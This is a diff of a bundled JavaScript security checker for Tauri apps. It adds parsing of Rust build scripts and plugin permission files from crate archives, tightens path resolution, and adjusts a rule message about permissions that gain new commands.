@@ -40226,9 +40226,9 @@ var Tokenizer = class {
     }
     const end = this.codePointIterator.end;
     const code2 = this.text.slice(start, end);
-    const codePoint = parseInt(code2, 16);
-    if (!isUnicodeScalarValue(codePoint)) return this.reportParseError("invalid-code-point", { cp: code2 });
-    return codePoint;
+    const codePoint2 = parseInt(code2, 16);
+    if (!isUnicodeScalarValue(codePoint2)) return this.reportParseError("invalid-code-point", { cp: code2 });
+    return codePoint2;
   }
   reportParseErrorControlChar() {
     return this.reportParseError("invalid-control-character");
@@ -42370,12 +42370,12 @@ function getDoubleQuotedValue(input, start, end) {
 function getBlockValue(input, start, end, indent, chomping, folded2) {
   const textIndent = indent < 0 ? 0 : indent;
   const region = input.slice(start, end).replace(/\r\n?/g, "\n");
-  const lines = region === "" ? [] : (region.endsWith("\n") ? region.slice(0, -1) : region).split("\n");
+  const lines2 = region === "" ? [] : (region.endsWith("\n") ? region.slice(0, -1) : region).split("\n");
   let result = "";
   let didReadContent = false;
   let emptyLines = 0;
   let atMoreIndented = false;
-  for (const line of lines) {
+  for (const line of lines2) {
     let column = 0;
     while (column < textIndent && line.charCodeAt(column) === 32) column++;
     if (indent < 0 || column >= line.length) {
@@ -43619,12 +43619,199 @@ function plain(value) {
   }
 }
 
+// src/formats/rust-text.ts
+var TOKEN = /\/\/[^\n]*|\/\*|(?:\b[bc]?r)(#*)"|(?:\b[bc])?"(?:[^"\\]|\\[\s\S])*"?|(?:\bb)?'(?:[^'\\\n]|\\(?:u\{[0-9a-fA-F_]*\}|x..|.))'/gu;
+function rustText(text) {
+  const strings = /* @__PURE__ */ new Map();
+  const parts = [];
+  let done = 0;
+  const token = new RegExp(TOKEN);
+  for (let found2 = token.exec(text); found2 !== null; found2 = token.exec(text)) {
+    const start = found2.index;
+    const end = endOf(text, found2);
+    token.lastIndex = end;
+    parts.push(text.slice(done, start));
+    const [whole] = found2;
+    const opens3 = whole.includes('"') && !whole.startsWith("/") && !/^b?'/.test(whole);
+    parts.push(opens3 ? `"${blank(text.slice(start + 1, end - 1))}"` : blank(text.slice(start, end)));
+    if (opens3) strings.set(start, { value: meaningOf(text.slice(start, end), found2[1]), end });
+    done = end;
+  }
+  parts.push(text.slice(done));
+  return { code: parts.join(""), strings };
+}
+function endOf(text, found2) {
+  const [whole, hashes] = found2;
+  const after = found2.index + whole.length;
+  if (whole === "/*") return endOfComment(text, after);
+  if (hashes === void 0) return after;
+  const close = text.indexOf(`"${hashes}`, after);
+  return close < 0 ? text.length : close + 1 + hashes.length;
+}
+function endOfComment(text, from) {
+  const mark = /\/\*|\*\//g;
+  mark.lastIndex = from;
+  let depth = 1;
+  for (let found2 = mark.exec(text); found2 !== null; found2 = mark.exec(text)) {
+    depth += found2[0] === "/*" ? 1 : -1;
+    if (depth === 0) return mark.lastIndex;
+  }
+  return text.length;
+}
+function blank(text) {
+  return text.replace(/[^\n]/g, " ");
+}
+var ESCAPES2 = { n: "\n", r: "\r", t: "	", "0": "\0" };
+function meaningOf(literal3, hashes) {
+  const open2 = literal3.indexOf('"') + 1;
+  if (hashes !== void 0) return literal3.slice(open2, literal3.length - 1 - hashes.length);
+  return literal3.slice(open2, literal3.endsWith('"') ? -1 : void 0).replace(/\\(?:u\{([0-9a-fA-F_]{1,8})\}|x([0-9a-fA-F]{2})|\n\s*|([\s\S]))/g, (_, code2, byte, letter) => {
+    const digits = code2 ?? byte;
+    if (digits !== void 0) return codePoint(Number.parseInt(digits.replaceAll("_", ""), 16));
+    return letter === void 0 ? "" : ESCAPES2[letter] ?? letter;
+  });
+}
+function codePoint(value) {
+  return value <= 1114111 ? String.fromCodePoint(value) : "�";
+}
+
+// src/formats/rust-calls.ts
+var sources = /* @__PURE__ */ new WeakMap();
+function rustSource(file2) {
+  let source = sources.get(file2);
+  if (source === void 0) {
+    const text = rustText(file2.text);
+    source = { ...text, closing: pairs(text.code) };
+    sources.set(file2, source);
+  }
+  return source;
+}
+function pairs(code2) {
+  const closing2 = /* @__PURE__ */ new Map();
+  const open2 = [];
+  for (const { 0: bracket, index } of code2.matchAll(/[()[\]{}]/g)) {
+    if ("([{".includes(bracket)) open2.push(index);
+    else {
+      const start = open2.pop();
+      if (start !== void 0) closing2.set(start, index);
+    }
+  }
+  return closing2;
+}
+function callsOf({ code: code2, closing: closing2 }, name) {
+  const found2 = [];
+  for (const { 0: whole, index } of code2.matchAll(new RegExp(`\\b(?:${name})!?\\s*[([{]`, "g"))) {
+    const start = index + whole.length;
+    const end = closing2.get(start - 1);
+    if (end !== void 0) found2.push({ name, at: index, inside: { start, end } });
+  }
+  return found2;
+}
+function chainFrom({ code: code2, closing: closing2 }, offset) {
+  const chain = [];
+  const method = /[\s?]*\.\s*([A-Za-z_]\w*)\s*(?:::\s*<[^()]*?>\s*)?\(/y;
+  method.lastIndex = offset;
+  for (let found2 = method.exec(code2); found2 !== null; found2 = method.exec(code2)) {
+    const opening2 = method.lastIndex - 1;
+    const end = closing2.get(opening2);
+    if (end === void 0) break;
+    const name = found2[1] ?? "";
+    chain.push({ name, at: found2.index + found2[0].indexOf(name), inside: { start: opening2 + 1, end } });
+    method.lastIndex = end + 1;
+  }
+  return chain;
+}
+function argumentsIn({ code: code2, closing: closing2 }, { start, end }) {
+  const found2 = [];
+  let from = start;
+  const take = (to) => {
+    const range2 = trimmed(code2, { start: from, end: to });
+    if (range2.start < range2.end) found2.push(range2);
+    from = to + 1;
+  };
+  for (let i = start; i < end; i += 1) {
+    const close = closing2.get(i);
+    if (close !== void 0) i = close;
+    else if (code2[i] === ",") take(i);
+  }
+  take(end);
+  return found2;
+}
+function literalOf({ code: code2, strings }, range2) {
+  const text = code2.slice(range2.start, range2.end);
+  const found2 = /^((?:String::from|Some)\s*\(\s*)?"/.exec(text);
+  if (found2 === null) return void 0;
+  const start = range2.start + (found2[1]?.length ?? 0);
+  const literal3 = strings.get(start);
+  if (literal3 === void 0) return void 0;
+  const rest = code2.slice(literal3.end, range2.end);
+  const isAll = /^\s*\)?(?:\s*\.\s*(?:into|to_string|to_owned|as_str)\s*\(\s*\))?\s*$/.test(rest);
+  return isAll ? { start, ...literal3 } : void 0;
+}
+function literalsOf(source, range2) {
+  const { code: code2, closing: closing2 } = source;
+  const text = code2.slice(range2.start, range2.end);
+  const named2 = /^&?\s*(?:(?:crate|self|Self)\s*::\s*)?([A-Za-z_]\w*)$/.exec(text)?.[1];
+  if (named2 !== void 0) return constantList(source, named2);
+  const opening2 = /^(?:&\s*(?:mut\s+)?|vec!\s*|Vec::from\s*\(\s*)*\[/.exec(text)?.[0].length;
+  if (opening2 === void 0) return void 0;
+  const end = closing2.get(range2.start + opening2 - 1);
+  if (end === void 0 || !/^[\s)]*(?:\.\s*(?:to_vec|into|as_slice)\s*\(\s*\)\s*)?$/.test(code2.slice(end + 1, range2.end)))
+    return void 0;
+  const items = argumentsIn(source, { start: range2.start + opening2, end }).map(
+    (item) => literalOf(source, item)
+  );
+  return items.every((item) => item !== void 0) ? items : void 0;
+}
+var LONGEST_TYPE = 200;
+function constantList(source, name) {
+  const { code: code2 } = source;
+  const declared = new RegExp(`\\b(?:const|static|let)\\s+${name}\\b`).exec(code2);
+  if (declared === null) return void 0;
+  const named2 = declared.index + declared[0].length;
+  const typed = /^[^=]*=\s*/.exec(code2.slice(named2, named2 + LONGEST_TYPE));
+  if (typed === null) return void 0;
+  const start = named2 + typed[0].length;
+  const opening2 = code2.indexOf("[", start);
+  const end = opening2 < 0 ? void 0 : source.closing.get(opening2);
+  if (end === void 0 || !/^(?:&\s*|vec!\s*)*$/.test(code2.slice(start, opening2))) return void 0;
+  return literalsOf(source, { start, end: end + 1 });
+}
+function trimmed(code2, { start, end }) {
+  let [from, to] = [start, end];
+  while (from < to && /\s/.test(code2[from] ?? "")) from += 1;
+  while (to > from && /\s/.test(code2[to - 1] ?? "")) to -= 1;
+  return { start: from, end: to };
+}
+
+// src/facts/plugin-facts.ts
+function saysPermissions(path) {
+  const isDeclared = /^permissions\/(?:.+\/)?[^/]+\.(?:json|toml)$/.test(path);
+  return path === "build.rs" || isDeclared && !/(?:^|\/)schemas\/[^/]+$/.test(path);
+}
+function pluginFact(texts) {
+  const script = texts.get("build.rs");
+  const commands = script === void 0 ? [] : pluginCommands(script);
+  const files = [...texts].flatMap(([path, text]) => path === "build.rs" ? [] : [{ path, text }]);
+  const isPlugin2 = files.length > 0 || script !== void 0 && commands !== void 0;
+  return isPlugin2 ? { files, commands: commands ?? null } : void 0;
+}
+function pluginCommands(text) {
+  const source = rustSource({ path: "build.rs", id: "", text });
+  const [call] = callsOf(source, "(?:tauri_plugin::)?Builder::new");
+  if (call === void 0) return void 0;
+  const [list] = argumentsIn(source, call.inside);
+  return (list && literalsOf(source, list)?.map(({ value }) => value)) ?? null;
+}
+
 // src/facts/crate-facts.ts
-function crateFact(manifest2, files) {
+function crateFact(manifest2, files, texts = /* @__PURE__ */ new Map()) {
   const parsed4 = parseFile(manifest2);
   if (!parsed4.ok) return { unknown: "the Cargo.toml in its archive can't be read" };
   const own = member(parsed4.value, "package") ?? member(parsed4.value, "project");
+  const plugin = pluginFact(texts);
   return {
+    ...plugin !== void 0 && { plugin },
     buildScripts: buildScripts(own, files),
     procMacro: isProcMacro(member(parsed4.value, "lib")),
     links: asString(member(own, "links")) ?? null
@@ -43690,14 +43877,18 @@ var MEBIBYTE = 1024 * 1024;
 var ARCHIVE_LIMITS = {
   entries: 5e4,
   manifestBytes: MEBIBYTE,
+  /** All wanted texts together. The largest plugin has 400 kB of permission files. */
+  textBytes: 4 * MEBIBYTE,
   pathLength: 4096,
   leastUnpacked: 32 * MEBIBYTE,
   mostUnpacked: 512 * MEBIBYTE,
   ratio: 100
 };
 var MANIFEST = "Cargo.toml";
-async function readArchive(bytes, root) {
+async function readArchive(bytes, root, wants2 = () => false) {
   const names2 = /* @__PURE__ */ new Set();
+  const texts = /* @__PURE__ */ new Map();
+  let taken2 = 0;
   let manifest2;
   try {
     const entries = (0, import_tar_stream.extract)();
@@ -43712,14 +43903,18 @@ async function readArchive(bytes, root) {
     for await (const entry of entries) {
       const path = pathOf(entry.header, root, names2);
       if (path === MANIFEST) manifest2 = await textOf(entry, entry.header);
-      else for await (const _ of entry) ;
+      else if (wants2(path)) {
+        taken2 += entry.header.size ?? 0;
+        if (taken2 > ARCHIVE_LIMITS.textBytes) throw new Odd("holds more permission files than any plugin");
+        texts.set(path, await textOf(entry, entry.header));
+      } else for await (const _ of entry) ;
     }
     await unpacking;
   } catch (error2) {
     return { refused: error2 instanceof Odd ? error2.message : "isn't a whole tar.gz file" };
   }
   if (manifest2 === void 0) return { refused: "has no Cargo.toml" };
-  return { files: [...names2].filter((name) => !name.endsWith("/")), manifest: manifest2 };
+  return { files: [...names2].filter((name) => !name.endsWith("/")), manifest: manifest2, texts };
 }
 var Odd = class extends Error {
 };
@@ -43767,7 +43962,8 @@ function note(path, names2) {
   return path;
 }
 async function textOf(entry, { size }) {
-  if (size > ARCHIVE_LIMITS.manifestBytes) throw new Odd("has a Cargo.toml of more than a megabyte");
+  if (size > ARCHIVE_LIMITS.manifestBytes)
+    throw new Odd("has a file of more than a megabyte where text is read");
   const chunks = [];
   for await (const chunk of entry) if (chunk instanceof Uint8Array) chunks.push(chunk);
   return Buffer.concat(chunks).toString("utf8");
@@ -43900,7 +44096,7 @@ var CRATES_LIMITS = {
 };
 var crateFactFormat = {
   name: "crate-facts",
-  version: 1,
+  version: 2,
   isValue: isCrateFact
 };
 function cratesAdapter({ index, cache = noCache(), limits: changed = {} }) {
@@ -43962,9 +44158,14 @@ async function lookAt(need, fetchArchive) {
   }
 }
 async function factIn(bytes, { name, version, checksum }) {
-  const archive = await readArchive(bytes, `${name}-${version}`);
+  const wants2 = name.startsWith("tauri-plugin-") ? saysPermissions : () => false;
+  const archive = await readArchive(bytes, `${name}-${version}`, wants2);
   if ("refused" in archive) return { unknown: `its archive ${archive.refused}` };
-  return crateFact({ path: "Cargo.toml", id: checksum, text: archive.manifest }, archive.files);
+  return crateFact(
+    { path: "Cargo.toml", id: checksum, text: archive.manifest },
+    archive.files,
+    archive.texts
+  );
 }
 function reasonOf3(error2) {
   if (error2 instanceof DownloadError) return error2.message;
@@ -43982,9 +44183,18 @@ function collected(answers) {
 }
 function isCrateFact(value) {
   if (typeof value !== "object" || value === null) return false;
-  const { buildScripts: buildScripts2, procMacro, links } = value;
-  const scripts = Array.isArray(buildScripts2) && buildScripts2.every((script) => typeof script === "string");
+  const { buildScripts: buildScripts2, procMacro, links, plugin } = value;
+  const scripts = isTexts(buildScripts2) && (plugin === void 0 || isPluginFact(plugin));
   return scripts && typeof procMacro === "boolean" && (links === null || typeof links === "string");
+}
+function isPluginFact(value) {
+  if (typeof value !== "object" || value === null) return false;
+  const { files, commands } = value;
+  const isFile = (file2) => typeof file2 === "object" && file2 !== null && isTexts([Reflect.get(file2, "path"), Reflect.get(file2, "text")]);
+  return Array.isArray(files) && files.every(isFile) && (commands === null || isTexts(commands));
+}
+function isTexts(value) {
+  return Array.isArray(value) && value.every((item) => typeof item === "string");
 }
 
 // src/adapters/github/answers.ts
@@ -45452,7 +45662,10 @@ function pagesInWords(pages) {
   const origins = byOrigin.map((group2) => ({ from: group2[0].from, place: placesInWords(group2) }));
   const phrases = groupedBy(origins, ({ from, place }) => `${from.kind}\0${place}`);
   const own = origins.find(({ from }) => from.kind === "app")?.place;
-  const words3 = phrases.map((group2) => pagesFrom(group2, own));
+  const ownFirst = phrases.toSorted(
+    ([a], [b]) => Number(b.from.kind === "app") - Number(a.from.kind === "app")
+  );
+  const words3 = ownFirst.map((group2) => pagesFrom(group2, own));
   return words3.length > 1 && words3.some((phrase) => phrase.includes(" and ")) ? words3.join(", and ") : listInWords(words3);
 }
 function pagesFrom(origins, own) {
@@ -45557,11 +45770,11 @@ var OTHER = {
   does: "call",
   worth: "A script that gets into that page can make the same calls."
 };
-function meaningOf({ witness }) {
+function meaningOf2({ witness }) {
   return MEANINGS.find(([pattern]) => pattern.test(witness.command))?.[1] ?? OTHER;
 }
 function worthOf(change) {
-  const { worth } = meaningOf(change);
+  const { worth } = meaningOf2(change);
   return change.reach === "nothing" ? `${worth} Its scope lets nothing through yet.` : worth;
 }
 function pagesOf(change) {
@@ -45586,7 +45799,7 @@ function othersOf({ commands, witness }) {
   return [...whole, ...counted4].join(" and ");
 }
 function doingWhat(change) {
-  const { does } = meaningOf(change);
+  const { does } = meaningOf2(change);
   if (does === OTHER.does) return `call ${commandsOf(change)}`;
   const more = othersOf(change);
   return `${does} (${shownCommand(change)})${more === "" ? "" : ` and call ${more}`}`;
@@ -45714,11 +45927,15 @@ var rule19 = {
       severity: severityOf2(change),
       confidence: confidenceOf(change),
       title: `${code(change.permission)} came to mean more: ${pagesInside(change)} can newly use ${commandsOf(change)}${whereOf(change)}${exampleOf(change)}`,
-      message: `The capability did not change; what its permission stands for did. ${worthOf(change)}`,
+      message: `${unchanged(change)} did not change; what its permission stands for did. ${worthOf(change)}`,
       remedy: `Name the single permissions that the app needs in place of ${code(change.permission)}, deny the new command, or keep what it meant before.`
     };
   }
 };
+function unchanged({ at, namedAt }) {
+  const isHere = at.path === namedAt.path && at.line === namedAt.line;
+  return isHere ? "The capability" : `The capability, at ${code(`${namedAt.path}:${namedAt.line}`)},`;
+}
 var rule_default19 = rule19;
 
 // src/rules/ipc/platform-added/rule.ts
@@ -46633,6 +46850,16 @@ function top({ path }) {
 function inFolder(folder, name) {
   return folder === "" ? name : `${folder}/${name}`;
 }
+function joined(folder, path) {
+  if (/^(?:[/\\]|[A-Za-z]:)/.test(path)) return null;
+  const parts = folder === "" ? [] : folder.split("/");
+  for (const part of path.replaceAll("\\", "/").split("/")) {
+    if (part === "" || part === ".") continue;
+    if (part !== "..") parts.push(part);
+    else if (parts.pop() === void 0) return null;
+  }
+  return parts.join("/");
+}
 function folderOf(path) {
   const slash = path.lastIndexOf("/");
   return slash < 0 ? "" : path.slice(0, slash);
@@ -46668,85 +46895,6 @@ function discoverApps(paths3) {
 }
 function rankOf(path) {
   return CONFIG_NAMES.indexOf(baseName(path));
-}
-
-// src/engine/read-files.ts
-async function readBothSides(base, head, wantedOfBase, wantedOfHead) {
-  const shared = /* @__PURE__ */ new Map();
-  const fromHead = await readSide(head, wantedOfHead, shared);
-  const fromBase = await readSide(base, wantedOfBase, shared);
-  return { base: fromBase, head: fromHead };
-}
-async function readSide(tree, wanted, shared) {
-  const gaps2 = [];
-  const files = /* @__PURE__ */ new Map();
-  const missing = [];
-  let bytes = 0;
-  for (const entry of wanted) {
-    const known = shared.get(keyOf2(entry));
-    bytes += entry.size;
-    if (known !== void 0) files.set(entry.path, known);
-    else if (entry.size > TREE_LIMITS.fileBytes || bytes > TREE_LIMITS.totalBytes) {
-      gaps2.push(
-        gapIn(
-          entry.path,
-          "truncated",
-          `${code(entry.path)} is larger than what is read; nothing in it was compared.`
-        )
-      );
-    } else missing.push(entry);
-  }
-  const blobs = missing.length === 0 ? /* @__PURE__ */ new Map() : await tree.read(missing);
-  for (const entry of missing) {
-    const bytesOfFile = blobs.get(entry.id);
-    const text = bytesOfFile && decode(bytesOfFile);
-    if (text === void 0)
-      gaps2.push(gapIn(entry.path, "unreadable", unreadable(entry.path, bytesOfFile !== void 0)));
-    else {
-      const file2 = { path: entry.path, id: entry.id, text };
-      shared.set(keyOf2(entry), file2);
-      files.set(entry.path, file2);
-    }
-  }
-  return { files, gaps: gaps2 };
-}
-function keyOf2({ path, id }) {
-  return `${id}\0${path}`;
-}
-function unreadable(path, present) {
-  return present ? `${code(path)} is not UTF-8 text, so Tauri can't read it either.` : `${code(path)} could not be read from the repository.`;
-}
-function decode(bytes) {
-  try {
-    return new TextDecoder("utf-8", { fatal: true, ignoreBOM: true }).decode(bytes);
-  } catch {
-    return void 0;
-  }
-}
-
-// src/engine/identities.ts
-async function identitiesOf(base, head, before, after, there, here) {
-  const lonely = (apps, others, { entries }) => {
-    const configs = new Set(
-      apps.filter(({ root }) => !others.some((other) => other.root === root)).map(({ config }) => config)
-    );
-    return entries.filter(({ path }) => configs.has(path));
-  };
-  const files = await readBothSides(base, head, lonely(there, here, before), lonely(here, there, after));
-  return (side, { config }) => {
-    const file2 = files[side].files.get(config);
-    return { config: file2?.id ?? "", names: file2 === void 0 ? [] : namesIn(file2) };
-  };
-}
-function namesIn(file2) {
-  const parsed4 = parseFile(file2, { json5: true });
-  if (!parsed4.ok) return [];
-  const at = (...keys) => pick(parsed4.value, ...keys);
-  const names2 = {
-    identifier: asString(at("identifier")) ?? asString(at("tauri", "bundle", "identifier")),
-    name: asString(member(parsed4.value, "productName")) ?? asString(at("package", "productName"))
-  };
-  return Object.entries(names2).flatMap(([kind, name]) => name === void 0 ? [] : [`${kind} ${name}`]);
 }
 
 // src/formats/cargo-source.ts
@@ -46874,8 +47022,8 @@ function modelOf(path, version, root, entries) {
 function draftOf(entry, metadata, version, gaps2) {
   const name = member(entry, "name");
   const number = member(entry, "version");
-  const raw2 = member(entry, "source");
-  if (name?.kind !== "string" || number?.kind !== "string" || raw2 !== void 0 && raw2.kind !== "string") {
+  const raw = member(entry, "source");
+  if (name?.kind !== "string" || number?.kind !== "string" || raw !== void 0 && raw.kind !== "string") {
     gaps2.push(
       gapAt(
         entry.at,
@@ -46885,13 +47033,13 @@ function draftOf(entry, metadata, version, gaps2) {
     );
     return void 0;
   }
-  const source = cargoSource(raw2?.value, version);
+  const source = cargoSource(raw?.value, version);
   if (source.kind === "unknown") {
     const message = `${code(`${name.value} ${number.value}`)} comes from ${code(source.text)}, which is no source that cargo knows.`;
-    gaps2.push(gapAt(raw2?.at ?? name.at, "unsupported", message));
+    gaps2.push(gapAt(raw?.at ?? name.at, "unsupported", message));
   }
   const inline = member(entry, "checksum");
-  const listed = metadata.get(metadataKey(name.value, number.value, raw2?.value));
+  const listed = metadata.get(metadataKey(name.value, number.value, raw?.value));
   return {
     entry,
     name: name.value,
@@ -46902,7 +47050,7 @@ function draftOf(entry, metadata, version, gaps2) {
     at: name.at,
     lines: {
       version: number.at,
-      source: raw2?.at ?? name.at,
+      source: raw?.at ?? name.at,
       checksum: inline?.at ?? name.at
     }
   };
@@ -46951,7 +47099,7 @@ function indexOf(packages) {
   const index = /* @__PURE__ */ new Map();
   for (const each of packages) {
     const named2 = [each.name, each.version, withoutCommit(each.source)];
-    for (const key of new Set([1, 2, 3].map((length) => keyOf3(named2.slice(0, length)))))
+    for (const key of new Set([1, 2, 3].map((length) => keyOf2(named2.slice(0, length)))))
       file(index, key, each);
   }
   return index;
@@ -46969,7 +47117,7 @@ function file(index, key, each) {
   known.own = own;
   known.owns += 1;
 }
-function keyOf3(parts) {
+function keyOf2(parts) {
   return JSON.stringify(parts);
 }
 function edgesOf(entry, index, lockVersion) {
@@ -46980,7 +47128,7 @@ function edgesOf(entry, index, lockVersion) {
 function resolve(text, index, lockVersion) {
   const [, name = "", version, source] = /^([^ ]*)(?: ([^ ]*)(?: \((.*)\))?)?$/s.exec(text) ?? [];
   const parts = [name, version, source && writtenSource(source, lockVersion)];
-  const found2 = index.get(keyOf3(parts.filter((part) => part !== void 0)));
+  const found2 = index.get(keyOf2(parts.filter((part) => part !== void 0)));
   if (found2 === void 0 || version === void 0 && !found2.oneVersion) return void 0;
   if (found2.count === 1) return found2.first;
   return found2.owns === 1 ? found2.own : void 0;
@@ -47003,23 +47151,25 @@ function crateVersions(root, files) {
     const folder = pathDependency(root, files, manifest2, crate);
     const locked = lock && lockedVersion(lock, app, crate);
     if (locked !== void 0) {
-      const { version, source, lines } = locked;
+      const { version, source, checksum, lines: lines2 } = locked;
       return {
         version,
         source,
+        checksum,
         assumed: false,
-        at: lines.version,
+        at: lines2.version,
         folder: source === "path" ? folder : null
       };
     }
-    if (folder !== null) return { version: "0.0.0", source: "path", assumed: true, at: null, folder };
+    if (folder !== null)
+      return { version: "0.0.0", source: "path", checksum: null, assumed: true, at: null, folder };
     return requiredVersion(root, files, manifest2, crate);
   };
 }
 function pathDependency(root, files, manifest2, crate) {
   const own = dependencyOf(manifest2, crate);
   const ownPath = asString(member(own, "path"));
-  if (ownPath !== void 0) return folderAt(root, ownPath);
+  if (ownPath !== void 0) return joined(root, ownPath);
   if (member(own, "workspace") === void 0) return null;
   for (const folder of withAncestors(root)) {
     const shared = pick(
@@ -47029,18 +47179,9 @@ function pathDependency(root, files, manifest2, crate) {
       crate
     );
     const path = asString(member(shared, "path"));
-    if (path !== void 0) return folderAt(folder, path);
+    if (path !== void 0) return joined(folder, path);
   }
   return null;
-}
-function folderAt(from, path) {
-  const parts = from === "" ? [] : from.split("/");
-  for (const part of path.replaceAll("\\", "/").split("/")) {
-    if (part === "" || part === ".") continue;
-    if (part !== "..") parts.push(part);
-    else if (parts.pop() === void 0) return null;
-  }
-  return parts.join("/");
 }
 function appPackage(lock, name) {
   const candidates = name === void 0 ? [] : lock.byName.get(name) ?? [];
@@ -47065,7 +47206,14 @@ function requiredVersion(root, files, manifest2, crate) {
   const text = asString(source) ?? asString(member(source, "version"));
   const version = text === void 0 ? void 0 : lowestVersion(text);
   if (version === void 0) return void 0;
-  return { version, source: asString(member(source, "git")) ?? null, assumed: true, at: null, folder: null };
+  return {
+    version,
+    source: asString(member(source, "git")) ?? null,
+    checksum: null,
+    assumed: true,
+    at: null,
+    folder: null
+  };
 }
 function dependencyOf(manifest2, crate) {
   for (const table4 of TABLES) {
@@ -47378,14 +47526,14 @@ function ordersOf(entries) {
   if (entries.some((entry) => entry.includes(","))) orders.push(entries.toReversed());
   const owners = /* @__PURE__ */ new Map();
   for (const entry of entries) {
-    for (const name of namesIn2(entry)) owners.set(name, (owners.get(name) ?? /* @__PURE__ */ new Set()).add(entry));
+    for (const name of namesIn(entry)) owners.set(name, (owners.get(name) ?? /* @__PURE__ */ new Set()).add(entry));
   }
   const rivals = new Set([...owners.values()].filter((each) => each.size > 1).flatMap((each) => [...each]));
   for (const rival of [...rivals].slice(0, MOST_ORDERS + 1))
     orders.push([rival, ...entries.filter((entry) => entry !== rival)]);
   return [...new Set(orders.map((order) => order.join("; ")))];
 }
-function namesIn2(entry) {
+function namesIn(entry) {
   return entry.split(/[;,]/).map((directive) => (/[^\t\n\f\r ]+/.exec(directive)?.[0] ?? "").toLowerCase());
 }
 
@@ -47407,7 +47555,7 @@ function readPage(html) {
     hasStyle ||= name === "style";
     const content = name === "meta" && inHead ? metaPolicy(match[0]) : void 0;
     if (content !== void 0) metaPolicies.push({ content, line: lineAt(text, match.index) });
-    if (name !== void 0 && HOLDS_TEXT.test(name)) tags.lastIndex = endOf(text, name, tags.lastIndex);
+    if (name !== void 0 && HOLDS_TEXT.test(name)) tags.lastIndex = endOf2(text, name, tags.lastIndex);
     from = tags.lastIndex;
   }
   return { hasStyle, metaPolicies };
@@ -47415,7 +47563,7 @@ function readPage(html) {
 function onlyMarkup(between) {
   return between.replace(/<[/!][^<>]*>/g, "").trim() === "";
 }
-function endOf(text, element, from) {
+function endOf2(text, element, from) {
   const end = new RegExp(`</${element}`, "gi");
   end.lastIndex = from;
   return end.exec(text)?.index ?? text.length;
@@ -47464,9 +47612,9 @@ function frontPage(project, dist) {
   }
   return void 0;
 }
-function resolve2(folder, relative) {
+function resolve2(folder, relative2) {
   const parts = folder === "" ? [] : folder.split("/");
-  for (const part of relative.replaceAll("\\", "/").split("/")) {
+  for (const part of relative2.replaceAll("\\", "/").split("/")) {
     if (part === "..") {
       if (parts.pop() === void 0) return void 0;
     } else if (part !== "." && part !== "") parts.push(part);
@@ -47611,6 +47759,7 @@ function onlyInPage(page) {
 }
 
 // src/formats/npm-source.ts
+var NPM_REGISTRY = "https://registry.npmjs.org";
 function npmSource({ name, version, resolved, local, bundled }) {
   if (local || resolved?.startsWith("file:")) return "path";
   if (bundled) return "bundled";
@@ -47618,6 +47767,7 @@ function npmSource({ name, version, resolved, local, bundled }) {
   if (/^(git[+:@]|github:)/.test(resolved)) return `git ${repositoryOf(resolved)}`;
   const layout = `/${name}/-/${name.slice(name.indexOf("/") + 1)}-${version}.tgz`;
   const registry = resolved.endsWith(layout) ? hostFirst(resolved.slice(0, -layout.length)) : void 0;
+  if (registry === NPM_REGISTRY) return "registry";
   return registry === void 0 ? `tarball ${canonicalUrl2(resolved)}` : `registry ${registry}`;
 }
 function repositoryOf(resolved) {
@@ -47801,13 +47951,13 @@ function mayConcern(path, app) {
 function frontendLocks(project) {
   const folders = new Set(startsOf(project).flatMap(withAncestors));
   const npm = [];
-  const unread2 = [];
+  const unread3 = [];
   for (const folder of folders) {
     const files = (names2) => names2.flatMap((name) => project.files.get(inFolder(folder, name)) ?? []);
     npm.push(...files(NPM).slice(0, 1));
-    unread2.push(...files(OTHERS));
+    unread3.push(...files(OTHERS));
   }
-  return { npm, unread: unread2 };
+  return { npm, unread: unread3 };
 }
 var FRONTEND_PATHS = [
   ["frontendDist"],
@@ -47888,6 +48038,11 @@ function parsed2(file2) {
 
 // src/tauri/versions.ts
 var import_semver3 = __toESM(require_semver2(), 1);
+function isTauri3(project) {
+  const tauri = project.locked("tauri");
+  const version = (0, import_semver3.parse)(tauri?.assumed === false ? tauri.version : "");
+  return version !== null && version.major >= 3;
+}
 function isBefore(version, limit) {
   const [left, right] = [(0, import_semver3.parse)(version ?? ""), (0, import_semver3.parse)(limit)];
   return left !== null && right !== null && (0, import_semver3.compare)(left, right) < 0;
@@ -47987,10 +48142,139 @@ function platformsFrom(list, wrong) {
   }, NO_PLATFORM);
 }
 
+// src/readers/tauri-acl/build-script.ts
+var MOST_PLUGINS = 100;
+var NO_SCRIPT = {
+  capabilitiesPattern: void 0,
+  capabilityFiles: [],
+  app: { commands: [], permissionsPattern: void 0 },
+  plugins: /* @__PURE__ */ new Map(),
+  gaps: []
+};
+function readBuildScript(file2, root) {
+  return file2 === void 0 ? NO_SCRIPT : new ScriptReader(file2).read(root);
+}
+var ScriptReader = class {
+  #source;
+  #place;
+  #gaps = [];
+  /** Calls that were understood: any other of the same name declares something in a way that can't be followed. */
+  #followed = /* @__PURE__ */ new Set();
+  constructor(file2) {
+    this.#source = rustSource(file2);
+    this.#place = placesIn(file2);
+  }
+  read(root) {
+    const app = this.#appManifest();
+    const plugins = this.#inlinedPlugins();
+    const [capabilitiesPattern] = callsOf(this.#source, "capabilities_path_pattern").flatMap(
+      (call) => this.#literal(call, "chooses for itself where capabilities are, and computes it")
+    );
+    const capabilityFiles2 = callsOf(this.#source, "CodegenContext::(?:new|default)").flatMap((made) => this.#chain(made)).filter(({ name }) => name === "capability").flatMap((call) => this.#literal(call, "adds a capability, and computes where it is")).map(({ name, at }) => ({ name, path: joined(root, name), at }));
+    for (const name of ["commands", "permissions_path_pattern"]) {
+      for (const call of callsOf(this.#source, name)) {
+        if (!this.#followed.has(call.at))
+          this.#unread(call, `calls ${code(name)} in a way that can't be followed`);
+      }
+    }
+    return {
+      capabilitiesPattern: capabilitiesPattern?.name,
+      capabilityFiles: capabilityFiles2,
+      app,
+      plugins,
+      gaps: this.#gaps
+    };
+  }
+  #appManifest() {
+    const [made] = callsOf(this.#source, "AppManifest::(?:new|default)");
+    return made === void 0 ? NO_SCRIPT.app : this.#declared(this.#chain(made), "the app's");
+  }
+  #inlinedPlugins() {
+    const plugins = /* @__PURE__ */ new Map();
+    for (const made of callsOf(this.#source, "InlinedPlugin::(?:new|default)")) {
+      if (plugins.size >= MOST_PLUGINS) {
+        this.#unread(made, `declares more than ${MOST_PLUGINS} plugins; the rest of them was not read`);
+        break;
+      }
+      const name = this.#nameBefore(made.at);
+      const chain = this.#chain(made);
+      if (name === void 0) {
+        this.#unread(made, "computes the name of a plugin that it declares");
+        for (const { at } of chain) this.#followed.add(at);
+        continue;
